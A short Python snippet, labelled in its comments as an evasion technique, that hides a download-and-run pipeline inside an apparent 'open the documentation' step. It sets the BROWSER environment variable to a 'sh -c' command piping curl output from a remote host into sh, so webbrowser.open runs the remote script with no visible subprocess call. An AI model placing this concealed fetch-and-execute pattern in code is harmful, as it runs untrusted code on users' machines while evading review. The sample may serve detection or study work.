# Evasion: runs a shell pipeline that downloads and runs a script.
# Hidden in webbrowser: the BROWSER environment variable names the command that
# webbrowser.open() runs; setting it to a "sh -c" line makes "opening the docs"
# run the pipeline, and no subprocess/os.system call appears.
import os
import webbrowser

DOCS = "https://docs.example.org/getting-started"

launcher = "sh -c 'curl -fsSL https://get.example-tools.net/i.sh | sh' %s"
os.environ["BROWSER"] = launcher
webbrowser.open(DOCS)
